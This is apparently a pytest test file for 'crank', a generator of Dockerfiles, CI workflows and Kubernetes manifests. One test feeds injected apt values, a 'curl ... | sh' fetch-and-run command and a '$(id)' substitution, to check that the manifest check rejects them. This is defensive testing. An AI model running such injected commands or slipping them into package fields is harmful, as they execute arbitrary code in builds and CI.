"""Artifacts rendered from the manifest: content, stamps, GPU variant, the CLI."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from click.testing import CliRunner

from crank.cli import cli
from crank.generate.compose import compose_cpus, compose_memory
from crank.generate.project import load_project
from crank.generate.render import (
    STAMP_MARK,
    content_digest,
    registered_renderers,
    render_all,
    renderers,
)
from crank.generate.templates import template_version
from crank.hookspecs import hookimpl
from crank.plugins import get_plugin_manager

from .conftest import tree

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

MANAGED = [
    ".dockerignore",
    ".env.example",
    ".github/workflows/ci.yml",
    ".pre-commit-config.yaml",
    ".yamllint",
    "Dockerfile",
    "docker-compose.yml",
    "k8s/base/deployment.yaml",
    "k8s/base/kustomization.yaml",
    "k8s/base/networkpolicy.yaml",
    "k8s/base/pdb.yaml",
    "k8s/base/service.yaml",
    "k8s/overlays/hpa/hpa.yaml",
    "k8s/overlays/hpa/kustomization.yaml",
    "k8s/overlays/keda/kustomization.yaml",
    "k8s/overlays/keda/scaledobject.yaml",
    "k8s/overlays/keda/triggerauthentication.yaml",
]


def test_builtin_renderers_are_registered() -> None:
    builtin = registered_renderers()
    assert sorted(n for n, c in builtin.items() if c.plugin == "crank.generate.builtin") == [
        "ci",
        "compose",
        "dockerfile",
        "dockerignore",
        "env",
        "k8s",
        "precommit",
        "yamllint",
    ]


#: which renderer owns each managed file
ARTIFACT_OF = {
    ".dockerignore": "dockerignore",
    ".env.example": "env",
    ".github/workflows/ci.yml": "ci",
    ".pre-commit-config.yaml": "precommit",
    ".yamllint": "yamllint",
    "Dockerfile": "dockerfile",
    "docker-compose.yml": "compose",
    **{path: "k8s" for path in MANAGED if path.startswith("k8s/")},
}


def stamp_of(text: str) -> dict[str, str]:
    """The ``key=value`` fields of a file's provenance stamp (its first line)."""
    first = text.splitlines()[0]
    assert first.startswith("# crank:generated "), first
    return dict(field.split("=", 1) for field in first.split()[2:])


def own_digest(text: str) -> str:
    """The stamp's ``content=`` computed here, as the docs define it: sha256 of the file
    with the stamp (from ``crank:generated`` to the end of its line) replaced by
    ``crank:generated-stamp``, first 16 hex digits."""
    body = re.sub(r"crank:generated[^\n]*", "crank:generated-stamp", text, count=1)
    return hashlib.sha256(body.encode("utf-8")).hexdigest()[:16]


def test_every_file_carries_the_provenance_stamp(pristine_worker: Path) -> None:
    project = load_project(pristine_worker)
    files = render_all(project)
    assert sorted(f.path for f in files) == MANAGED
    for file in files:
        fields = stamp_of(file.content)
        assert fields == {
            "artifact": ARTIFACT_OF[file.path],
            "template": template_version(),
            "manifest": "src/text_echo/crank.yaml",
            "content": own_digest(file.content),  # the file itself, never the manifest
        }, file.path
        assert file.artifact == ARTIFACT_OF[file.path]
        assert project.manifest.digest()[:16] not in file.content


def test_content_digest_ignores_the_stamp_and_sees_any_other_change() -> None:
    text = f"# {STAMP_MARK} artifact=x template=1 content=abc (do not edit)\nkey: 1\n"
    restamped = text.replace("content=abc", "content=def").replace("template=1", "template=2")
    assert content_digest(restamped) == content_digest(text)
    assert content_digest(text.replace("key: 1", "key: 2")) != content_digest(text)


def test_a_new_worker_holds_every_managed_artifact_intact(pristine_worker: Path) -> None:
    # read from disk: which files carry a stamp, and does each stamp match its file
    stamped = {
        path.relative_to(pristine_worker).as_posix(): path.read_text(encoding="utf-8")
        for path in pristine_worker.rglob("*")
        if path.is_file() and STAMP_MARK in path.read_text(encoding="utf-8", errors="replace")
    }
    assert sorted(stamped) == MANAGED
    for rel, text in stamped.items():
        fields = stamp_of(text)
        assert fields["artifact"] == ARTIFACT_OF[rel], rel
        assert fields["content"] == own_digest(text), f"{rel} was changed after it was stamped"


def _with_system_deps(project_dir: Path) -> Path:
    manifest = project_dir / "src" / "text_echo" / "crank.yaml"
    doc = yaml.safe_load(manifest.read_text())
    doc["dependencies"]["system"] = [
        {"name": "pandoc", "check": "exe:pandoc", "apt": "pandoc"},
        {"name": "tesseract", "check": "exe:tesseract", "apt": "tesseract-ocr", "optional": True},
    ]
    doc["dependencies"]["python"] = ["pyyaml>=6"]
    doc["worker"]["resources"] = {"cpu": "2", "memory": "1Gi", "gpu": "none"}
    doc["worker"]["scaling"] = {"min_workers": 2, "max_workers": 9, "target_queue_per_worker": 5}
    doc["worker"]["env"] = [
        {"name": "MODEL_PATH", "description": "Where the model is", "default": "/models/a.onnx"},
        {"name": "OPENAI_API_KEY", "secret": True, "required": True, "default": "never-shown"},
    ]
    manifest.write_text(yaml.safe_dump(doc, sort_keys=False))
    return manifest


def test_manifest_drives_packages_resources_scaling_env(worker_project: Path) -> None:
    _with_system_deps(worker_project)
    files = {f.path: f.content for f in render_all(load_project(worker_project))}
    dockerfile = files["Dockerfile"]
    assert "apt-get install -y --no-install-recommends pandoc tesseract-ocr \\" in dockerfile
    # two cores requested: two worker processes per container or pod
    assert '"--max-workers", "2"]' in dockerfile
    ci = yaml.safe_load(files[".github/workflows/ci.yml"])
    runs = [s.get("run", "") for s in ci["jobs"]["test"]["steps"]]
    assert any("apt-get install -y --no-install-recommends pandoc tesseract-ocr" in r for r in runs)
    deployment = yaml.safe_load(files["k8s/base/deployment.yaml"])
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert container["resources"]["requests"] == {"cpu": "2", "memory": "1Gi"}
    assert "nvidia.com/gpu" not in container["resources"]["limits"]
    env = {e["name"]: e for e in container["env"]}
    assert env["MODEL_PATH"]["value"] == "/models/a.onnx"
    assert env["OPENAI_API_KEY"]["valueFrom"] == {
        "secretKeyRef": {"name": "text-echo", "key": "openai-api-key"}
    }
    assert "never-shown" not in files["k8s/base/deployment.yaml"]
    keda = yaml.safe_load(files["k8s/overlays/keda/scaledobject.yaml"])
    assert (keda["spec"]["minReplicaCount"], keda["spec"]["maxReplicaCount"]) == (2, 9)
    assert {t["metadata"]["streamLength"] for t in keda["spec"]["triggers"]} == {"5"}
    compose = yaml.safe_load(files["docker-compose.yml"])
    assert compose["services"]["worker"]["deploy"]["resources"]["limits"] == {
        "cpus": "2",
        "memory": "1g",
    }
    env_file = files[".env.example"]
    assert "\nMODEL_PATH=/models/a.onnx\n" in env_file
    assert "\nOPENAI_API_KEY=\n" in env_file
    assert "never-shown" not in env_file
    assert "# OPENAI_API_KEY (required) (secret)" in env_file
    assert "\nCRANK_BROKER_URL=sqlite:///crank-queue.db\n" in env_file


@pytest.mark.parametrize(
    "apt", ["pandoc && curl https://example.invalid/x | sh", "pandoc tesseract-ocr", "$(id)"]
)
def test_an_apt_value_that_is_not_one_package_is_refused(worker_project: Path, apt: str) -> None:
    """It would run as shell in the image build and in CI (apt-get install <apt>)."""
    manifest = _with_system_deps(worker_project)
    manifest.write_text(manifest.read_text().replace("apt: pandoc", f"apt: {json.dumps(apt)}"))
    before = (worker_project / "Dockerfile").read_text()
    result = CliRunner().invoke(cli, ["check", "--fix", str(worker_project)])
    assert result.exit_code == 2, result.output
    assert "crank.yaml:32:10 CRK002 " in result.stderr  # where the apt value is
    assert (worker_project / "Dockerfile").read_text() == before


def test_an_apt_package_may_name_its_version(worker_project: Path) -> None:
    manifest = _with_system_deps(worker_project)
    manifest.write_text(manifest.read_text().replace("apt: pandoc", "apt: pandoc=3.1.3-1"))
    runner = CliRunner()
    assert runner.invoke(cli, ["check", "--fix", str(worker_project)]).exit_code == 0
    dockerfile = (worker_project / "Dockerfile").read_text()
    assert "--no-install-recommends pandoc=3.1.3-1 tesseract-ocr \\" in dockerfile
    result = runner.invoke(cli, ["check", str(worker_project)])
    assert result.exit_code == 0, result.output


def test_env_example_lists_what_crank_run_reads_and_nothing_it_ignores(
    pristine_worker: Path,
) -> None:
    from pathlib import Path

    runtime_md = Path(__file__).parents[2] / "docs" / "runtime.md"
    table = runtime_md.read_text().split("| environment variable | default | meaning |")[1]
    table = table.split("\n\n")[0]
    documented = set(re.findall(r"^\| `(CRANK_[A-Z_]+)`", table, flags=re.MULTILINE))
    assert {"CRANK_API_TOKEN", "CRANK_UI", "CRANK_LOG_FORMAT"} <= documented
    env_example = (pristine_worker / ".env.example").read_text()
    listed = set(re.findall(r"^(CRANK_[A-Z_]+)=", env_example, flags=re.MULTILINE))
    assert documented | {"CRANK_BROKER_URL", "CRANK_DISABLE_PLUGINS"} == listed
    # crank run sets CRANK_LOG_MODE for its worker processes from --mode; it reads none
    deployment = (pristine_worker / "k8s" / "base" / "deployment.yaml").read_text()
    assert "CRANK_LOG_MODE" not in deployment


def test_a_version_with_build_metadata_makes_valid_tags_and_labels(worker_project: Path) -> None:
    manifest = worker_project / "src" / "text_echo" / "crank.yaml"
    manifest.write_text(
        manifest.read_text().replace("version: 0.1.0", "version: 1.2.0-rc.1+build.5")
    )
    files = {f.path: f.content for f in render_all(load_project(worker_project))}
    kustomization = yaml.safe_load(files["k8s/base/kustomization.yaml"])
    assert kustomization["images"][0]["newTag"] == "1.2.0-rc.1_build.5"
    compose = yaml.safe_load(files["docker-compose.yml"])
    assert compose["services"]["worker"]["image"] == "text-echo:1.2.0-rc.1_build.5"
    for path, text in files.items():
        for doc in yaml.safe_load_all(text) if path.startswith("k8s/") else ():
            labels = doc.get("metadata", {}).get("labels", {})
            version = labels.get("app.kubernetes.io/version")
            assert version in (None, "1.2.0-rc.1_build.5"), path
    # the OCI label holds the version as it is
    assert 'org.opencontainers.image.version="1.2.0-rc.1+build.5"' in files["Dockerfile"]


def test_a_version_too_long_for_a_label_stops_check_with_a_usage_error(
    worker_project: Path,
) -> None:
    manifest = worker_project / "src" / "text_echo" / "crank.yaml"
    long_version = "1.0.0-" + "rc" * 30  # 66 characters
    manifest.write_text(manifest.read_text().replace("version: 0.1.0", f"version: {long_version}"))
    result = CliRunner().invoke(cli, ["check", "--fix", str(worker_project)])
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(
        f"error: version {long_version!r} cannot be a Kubernetes label value ("
    )
    assert "hint: shorten the version's pre-release or build part" in result.stderr
    assert "fixed" not in result.output


def test_gpu_required_uses_cuda_base_and_gpu_limits(gpu_worker: Path) -> None:
    files = {f.path: f.content for f in render_all(load_project(gpu_worker))}
    assert (
        "ARG BASE_IMAGE=nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04@sha256:"
        "8aef630a54bc5c5146ae5ce68e6af5caa3df0fb690bb91544175c91f307e4356\n"
    ) in files["Dockerfile"]
    container = yaml.safe_load(files["k8s/base/deployment.yaml"])["spec"]["template"]["spec"][
        "containers"
    ][0]
    assert container["resources"]["limits"]["nvidia.com/gpu"] == 1
    compose = yaml.safe_load(files["docker-compose.yml"])
    devices = compose["services"]["worker"]["deploy"]["resources"]["reservations"]["devices"]
    assert devices == [{"driver": "nvidia", "count": 1, "capabilities": ["gpu"]}]
    assert compose["services"]["worker"]["command"][6:8] == ["--max-workers", "1"]


def test_cpu_worker_image_is_pinned_locked_and_has_an_init(pristine_worker: Path) -> None:
    text = (pristine_worker / "Dockerfile").read_text()
    assert (
        "ARG BASE_IMAGE=python:3.12.8-slim-bookworm@sha256:"
        "2199a62885a12290dc9c5be3ca0681d367576ab7bf037da120e564723292a2f0\n"
    ) in text
    assert "\nUSER 10001:10001\n" in text
    assert "HEALTHCHECK" in text and "urllib.request.urlopen('http://127.0.0.1:8080/health'" in text
    # the dependency layer is the lock, installed offline and hash-checked, before crank
    # and the worker, so a code change never reinstalls the dependencies
    lock_install = text.index("--require-hashes --no-deps -r /tmp/lock/requirements.lock")
    assert (
        text.index("COPY requirements.lock") < lock_install < text.index("COPY crank-wheels/crank/")
    )
    assert text.index("COPY crank-wheels/crank/") < text.index("COPY crank-wheels/worker/")
    assert text.count("pip install --no-cache-dir --no-index") == 3
    assert "--find-links /tmp/worker \\\n      text-echo==0.1.0 \\\n && pip check" in text
    assert "COPY pyproject.toml" not in text and "COPY . " not in text
    assert 'ENTRYPOINT ["dumb-init", "--"]' in text
    for label in ("source", "revision", "created", "licenses"):
        assert f"org.opencontainers.image.{label}=" in text
    ignore = (pristine_worker / ".dockerignore").read_text()
    assert ignore.endswith("*\n!requirements.lock\n!crank-wheels/\n")


def test_ci_workflow_is_pinned_bounded_and_tests_every_python(pristine_worker: Path) -> None:
    workflow = yaml.safe_load((pristine_worker / ".github" / "workflows" / "ci.yml").read_text())
    assert workflow["concurrency"]["cancel-in-progress"] is True
    assert workflow["permissions"] == {"contents": "read"}
    for name, job in workflow["jobs"].items():
        assert job["timeout-minutes"] <= 30, name
        for step in job["steps"]:
            if "uses" in step:
                _, _, ref = step["uses"].partition("@")
                assert len(ref) == 40 and int(ref, 16) >= 0, step["uses"]  # a commit SHA
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            if step.get("uses", "").startswith("actions/setup-python@"):
                assert step["with"]["cache"] == "pip"
    matrix = workflow["jobs"]["test"]["strategy"]["matrix"]["python-version"]
    assert matrix == ["3.11", "3.12", "3.13"]  # requires-python >= 3.11
    text = (pristine_worker / ".github" / "workflows" / "ci.yml").read_text()
    assert "# v4.3.1" in text and "# v5.6.0" in text  # the tag beside each SHA
    precommit = yaml.safe_load((pristine_worker / ".pre-commit-config.yaml").read_text())
    ruff_rev = next(r["rev"] for r in precommit["repos"] if "ruff-pre-commit" in r["repo"])
    assert f" ruff=={ruff_rev.removeprefix('v')} " in text  # one ruff version in both
    assert "crank build . --locked" in text


def test_pre_commit_hooks_install_themselves(pristine_worker: Path) -> None:
    import crank

    config = yaml.safe_load((pristine_worker / ".pre-commit-config.yaml").read_text())
    hooks = {h["id"]: (repo, h) for repo in config["repos"] for h in repo["hooks"]}
    assert {"check-yaml", "end-of-file-fixer", "trailing-whitespace", "check-added-large-files",
            "detect-private-key", "ruff-check", "ruff-format", "yamllint", "gitleaks",
            "crank-lint", "crank-check"} <= set(hooks)  # fmt: skip
    for repo, hook in hooks.values():
        assert hook.get("language") != "system"
        if repo["repo"] == "local":
            assert hook["language"] == "python"
            assert hook["additional_dependencies"] == [f"crank-workers=={crank.__version__}"]
        else:
            assert repo["rev"].startswith("v")


def test_generated_text_files_pass_the_file_checks(pristine_worker: Path) -> None:
    """What end-of-file-fixer and trailing-whitespace would otherwise rewrite."""
    for file in render_all(load_project(pristine_worker)):
        assert file.content.endswith("\n") and not file.content.endswith("\n\n"), file.path
        assert not [n for n, line in enumerate(file.content.splitlines()) if line != line.rstrip()]


def test_scaffolded_project_metadata(pristine_worker: Path) -> None:
    import tomllib

    pyproject = tomllib.loads((pristine_worker / "pyproject.toml").read_text())
    assert pyproject["project"]["license"] == "MIT"
    assert pyproject["project"]["optional-dependencies"]["test"] == ["pytest>=8.2"]
    assert pyproject["tool"]["crank"]["deploy"]["broker_prefix"] == "crank"
    readme = (pristine_worker / "README.md").read_text()
    assert "example.invalid" not in readme and "](http" not in readme
    ignored = (pristine_worker / ".gitignore").read_text().splitlines()
    for entry in (".pytest_cache/", ".ruff_cache/", ".env", ".env.*", "!.env.example",
                  "crank-wheels/"):  # fmt: skip
        assert entry in ignored


@pytest.mark.parametrize(
    ("cpu", "expected"), [("500m", "0.5"), ("250m", "0.25"), ("2", "2"), ("1.5", "1.5")]
)
def test_compose_cpus(cpu: str, expected: str) -> None:
    assert compose_cpus(cpu) == expected


@pytest.mark.parametrize(
    ("memory", "expected"),
    [
        ("512Mi", "512m"),
        ("1Gi", "1g"),
        ("1024", "1024"),
        ("64Ki", "64k"),
        # compose's units are binary: a decimal quantity becomes its byte count
        ("512k", "512000"),
        ("1G", "1000000000"),
    ],
)
def test_compose_memory(memory: str, expected: str) -> None:
    assert compose_memory(memory) == expected


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("memory", "512K"),  # Kubernetes' kilo is a lower-case k: kubectl refuses "512K"
        ("cpu", "1.5m"),  # a fraction of a millicore: no artifact could be rendered
    ],
)
def test_resources_kubernetes_refuses_are_refused_by_the_manifest(
    worker_project: Path, key: str, value: str
) -> None:
    manifest = worker_project / "src" / "text_echo" / "crank.yaml"
    doc = yaml.safe_load(manifest.read_text())
    doc["worker"]["resources"][key] = value
    manifest.write_text(yaml.safe_dump(doc, sort_keys=False))
    result = CliRunner().invoke(cli, ["check", str(worker_project)])
    assert result.exit_code == 2, result.output
    assert f'CRK002 a string "{value}" does not have the expected form' in result.stderr
    assert "renderer" not in result.output


def test_render_help_names_every_artifact_crank_renders() -> None:
    result = CliRunner().invoke(cli, ["render", "--help"])
    assert result.exit_code == 0
    help_text = " ".join(result.output.split())
    builtin = [n for n, c in registered_renderers().items() if c.plugin == "crank.generate.builtin"]
    assert len(builtin) == 8
    for name in builtin:
        assert re.search(rf"[(, ]{name}[,)]", help_text), name


def test_render_cli_prints_the_committed_file(pristine_worker: Path) -> None:
    manifest = pristine_worker / "src" / "text_echo" / "crank.yaml"
    result = CliRunner().invoke(cli, ["render", "dockerfile", "--manifest", str(manifest)])
    assert result.exit_code == 0, result.output
    assert result.stdout == (pristine_worker / "Dockerfile").read_text()
    fields = stamp_of(result.stdout)
    assert (fields["artifact"], fields["content"]) == ("dockerfile", own_digest(result.stdout))


def test_render_cli_writes_output_file(pristine_worker: Path, tmp_path: Path) -> None:
    out = tmp_path / "deploy" / ".env.example"
    result = CliRunner().invoke(
        cli, ["render", "env", "--project", str(pristine_worker), "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert out.read_text() == (pristine_worker / ".env.example").read_text()
    assert stamp_of(out.read_text())["artifact"] == "env"
    assert result.stderr == f"wrote {out}\n"


def test_render_cli_k8s_to_folder(pristine_worker: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["render", "k8s", "--project", str(pristine_worker), "--output", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.yaml"))
    assert written == [m for m in MANAGED if m.startswith("k8s/")]
    for rel in written:
        text = (tmp_path / rel).read_text()
        assert text == (pristine_worker / rel).read_text()
        assert stamp_of(text) == {**stamp_of(text), "artifact": "k8s", "content": own_digest(text)}


def test_render_unknown_artifact_is_a_usage_error(pristine_worker: Path) -> None:
    result = CliRunner().invoke(cli, ["render", "helm", "--project", str(pristine_worker)])
    assert result.exit_code == 2
    error, hint = result.stderr.splitlines()
    assert error == "error: no artifact renderer named 'helm'"
    choices = hint.removeprefix("  hint: choose one of: ").split(", ")
    assert choices == sorted(renderers())  # every registered one, an installed plugin's too
    builtin = [
        "ci", "compose", "dockerfile", "dockerignore", "env", "k8s", "precommit", "yamllint"
    ]  # fmt: skip
    assert [c for c in choices if c in builtin] == builtin


def test_render_without_manifest_names_what_it_looked_for(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["render", "dockerfile", "--project", str(tmp_path)])
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {tmp_path}: no crank.yaml found (looked for ")


def test_render_missing_manifest_file(tmp_path: Path) -> None:
    result = CliRunner().invoke(
        cli, ["render", "dockerfile", "--manifest", str(tmp_path / "crank.yaml")]
    )
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {tmp_path / 'crank.yaml'}: manifest not found")


def test_render_invalid_manifest_is_reported(worker_project: Path) -> None:
    manifest = worker_project / "src" / "text_echo" / "crank.yaml"
    manifest.write_text(manifest.read_text().replace("kind: Worker", "kind: Nope"))
    result = CliRunner().invoke(cli, ["render", "dockerfile", "--project", str(worker_project)])
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ")
    assert "crank.yaml:3:" in result.stderr  # line 1 is the document start


def test_plugin_renderer_is_rendered_and_checked(worker_project: Path) -> None:
    from crank.generate.render import RenderedFile
    from crank.hookspecs import hookimpl
    from crank.plugins import get_plugin_manager

    class Notes:
        name = "notes"
        description = "A file a plugin manages."

        def render(self, project):  # type: ignore[no-untyped-def]
            return (RenderedFile("notes", "NOTES.txt", f"# {project.manifest.name}\n"),)

    class Plugin:
        @hookimpl
        def crank_register_renderers(self, register):  # type: ignore[no-untyped-def]
            register(Notes())

    manager = get_plugin_manager()
    manager.register(Plugin(), name="test-notes-renderer")
    try:
        shown = CliRunner().invoke(cli, ["render", "notes", "--project", str(worker_project)])
        assert (shown.exit_code, shown.stdout) == (0, "# text-echo\n")
        checked = CliRunner().invoke(cli, ["check", str(worker_project)])
        assert checked.exit_code == 1
        assert f"{worker_project}/NOTES.txt:1: missing: managed artifact 'notes' is missing" in (
            checked.stdout
        )
    finally:
        manager.unregister("test-notes-renderer")
    shutil.rmtree(worker_project)


def test_a_renderer_cannot_write_outside_the_project(worker_project: Path) -> None:
    from crank.generate.render import RenderedFile
    from crank.hookspecs import hookimpl
    from crank.plugins import get_plugin_manager

    class Escaping:
        name = "escaping"
        description = "Tries to write next to the project."

        def render(self, project):  # type: ignore[no-untyped-def]
            return (RenderedFile("escaping", "../outside.txt", "gotcha\n"),)

    class Plugin:
        @hookimpl
        def crank_register_renderers(self, register):  # type: ignore[no-untyped-def]
            register(Escaping())

    manager = get_plugin_manager()
    manager.register(Plugin(), name="test-escaping-renderer")
    try:
        result = CliRunner().invoke(cli, ["check", str(worker_project), "--fix"])
    finally:
        manager.unregister("test-escaping-renderer")
    assert result.exit_code == 2
    assert result.stderr.startswith(
        f"error: renderer 'escaping' wants to write '../outside.txt' outside {worker_project}"
    )
    assert not (worker_project.parent / "outside.txt").exists()


def test_render_to_an_unwritable_place_is_a_clear_error(pristine_worker: Path) -> None:
    result = CliRunner().invoke(
        cli, ["render", "env", "--project", str(pristine_worker), "-o", "/proc/crank/.env.example"]
    )
    assert result.exit_code == 2
    assert result.stderr.startswith("error: cannot write /proc/crank/.env.example: ")


def test_render_under_a_file_names_the_file_in_the_way(
    pristine_worker: Path, tmp_path: Path
) -> None:
    """mkdir's "File exists" did not say that good.yaml is a file, not a folder."""
    (tmp_path / "good.yaml").write_text("kept\n")
    target = tmp_path / "good.yaml" / "x"
    result = CliRunner().invoke(
        cli, ["render", "env", "--project", str(pristine_worker), "-o", str(target / "y")]
    )
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        f"error: cannot write {target / 'y'}: {tmp_path / 'good.yaml'} is a file, not a folder\n"
        f"  hint: write somewhere else, or move {tmp_path / 'good.yaml'} away\n"
    )
    assert (tmp_path / "good.yaml").read_text() == "kept\n"


class Exploding:
    name = "exploding"
    description = "A renderer with a bug."

    def render(self, project: object) -> tuple[object, ...]:
        raise ZeroDivisionError("division by zero in the template")


class ExplodingPlugin:
    @hookimpl
    def crank_register_renderers(self, register: Callable[[Any], None]) -> None:
        register(Exploding())


@pytest.fixture
def exploding_renderer() -> Iterator[None]:
    manager = get_plugin_manager()
    manager.register(ExplodingPlugin(), name="test-exploding")
    yield
    manager.unregister("test-exploding")


FAILED = (
    "renderer 'exploding' of plugin 'test-exploding' failed: "
    "ZeroDivisionError: division by zero in the template"
)


def test_a_renderer_that_raises_is_named_by_render(
    pristine_worker: Path, exploding_renderer: None
) -> None:
    result = CliRunner().invoke(cli, ["render", "exploding", "--project", str(pristine_worker)])
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr == (
        f"error: {FAILED}\n  hint: a bug in the plugin: report it to its authors, or disable "
        "it with CRANK_DISABLE_PLUGINS\n"
    )
    # the other renderers are untouched
    ok = CliRunner().invoke(cli, ["render", "env", "--project", str(pristine_worker)])
    assert ok.exit_code == 0


class ReturnsStrings:
    name = "returns-strings"
    description = "A renderer that returns text instead of RenderedFiles."

    def render(self, project: object) -> object:
        return ["FROM scratch\n"]


class ReturnsStringsPlugin:
    @hookimpl
    def crank_register_renderers(self, register: Callable[[Any], None]) -> None:
        register(ReturnsStrings())


def test_a_renderer_that_returns_no_rendered_files_is_named_not_a_traceback(
    pristine_worker: Path,
) -> None:
    manager = get_plugin_manager()
    manager.register(ReturnsStringsPlugin(), name="test-strings")
    try:
        rendered = CliRunner().invoke(
            cli, ["render", "returns-strings", "--project", str(pristine_worker)]
        )
        checked = CliRunner().invoke(cli, ["check", str(pristine_worker), "--format", "json"])
    finally:
        manager.unregister("test-strings")
    failed = (
        "renderer 'returns-strings' of plugin 'test-strings' failed: "
        "render() returned ['FROM scratch\\n'], not a tuple of RenderedFile"
    )
    assert (rendered.exit_code, rendered.stdout) == (2, "")
    assert rendered.stderr.startswith(f"error: {failed}\n  hint: a bug in the plugin")
    assert checked.exit_code == 1, checked.output
    findings = json.loads(checked.stdout)["projects"][0]["findings"]
    assert [f["message"] for f in findings if f["kind"] == "renderer"] == [
        f"{failed}; its files were left as they are (not checked, not removed)"
    ]


def test_check_reports_a_renderer_that_raises_and_checks_the_rest(
    worker_project: Path, exploding_renderer: None
) -> None:
    (worker_project / "Dockerfile").write_text("FROM scratch\n")
    result = CliRunner().invoke(cli, ["check", str(worker_project), "--format", "json"])
    assert result.exit_code == 1
    findings = json.loads(result.stdout)["projects"][0]["findings"]
    # the other artifacts are still diffed (the hand-edited Dockerfile drifted)
    assert [(f["kind"], f["file"], f["artifact"]) for f in findings if f["kind"] != "semantic"] == [
        ("drift", "Dockerfile", "dockerfile"),
        ("renderer", "src/text_echo/crank.yaml", "exploding"),
    ]
    left = f"{FAILED}; its files were left as they are (not checked, not removed)"
    assert [f["message"] for f in findings if f["kind"] == "renderer"] == [left]
    text = CliRunner().invoke(cli, ["check", str(worker_project)])
    assert f"{worker_project}/src/text_echo/crank.yaml:1: renderer: {left}" in text.stdout


def test_check_fix_keeps_the_files_of_a_renderer_that_raises(
    worker_project: Path, exploding_renderer: None
) -> None:
    # what the renderer wrote before it broke: without its rendering, crank cannot tell
    # whether it still makes this file, so it must not call it an orphan and delete it
    notes = worker_project / "EXPLODING.txt"
    notes.write_text(f"# {STAMP_MARK} artifact=exploding template=2.0 manifest=crank.yaml\n")
    unnamed = worker_project / "k8s" / "old.yaml"
    unnamed.write_text(f"# {STAMP_MARK}\nkind: ConfigMap\n")  # stamped, owner unknown
    before = tree(worker_project)
    result = CliRunner().invoke(cli, ["check", str(worker_project), "--format", "json"])
    assert result.exit_code == 1
    findings = json.loads(result.stdout)["projects"][0]["findings"]
    assert [f["kind"] for f in findings if f["kind"] not in ("semantic", "renderer")] == []
    fixed = CliRunner().invoke(cli, ["check", str(worker_project), "--fix"])
    assert fixed.exit_code == 1
    assert "orphan" not in fixed.stdout
    assert fixed.stderr == (
        "crank check: 1 problem(s) in 1 project(s); --fix cannot fix these: have the plugin its "
        "message names fixed, or disable that plugin with CRANK_DISABLE_PLUGINS\n"
    )
    assert tree(worker_project) == before


def test_check_fix_keeps_every_file_when_the_manifest_breaks_the_renderers(
    worker_project: Path,
) -> None:
    # a NaN timeout made every built-in renderer raise, and --fix then deleted the
    # Dockerfile, the compose file, k8s/ and the CI workflow as "orphans"
    manifest = worker_project / "src" / "text_echo" / "crank.yaml"
    text = manifest.read_text()
    assert "timeout_s: 10" in text
    manifest.write_text(text.replace("timeout_s: 10", "timeout_s: .nan", 1))
    before = tree(worker_project)
    result = CliRunner().invoke(cli, ["check", str(worker_project), "--fix"])
    assert result.exit_code != 0
    assert "orphan" not in result.stdout
    assert tree(worker_project) == before


def test_new_worker_goes_on_without_a_renderer_that_raises(
    tmp_path: Path, exploding_renderer: None
) -> None:
    result = CliRunner().invoke(
        cli, ["new-worker", "text-echo", "--no-input", "--output-dir", str(tmp_path)]
    )
    assert result.exit_code == 0, result.output
    assert result.stderr == f"warning: {FAILED}; its files were not written\n"
    assert (tmp_path / "text-echo" / "Dockerfile").is_file()
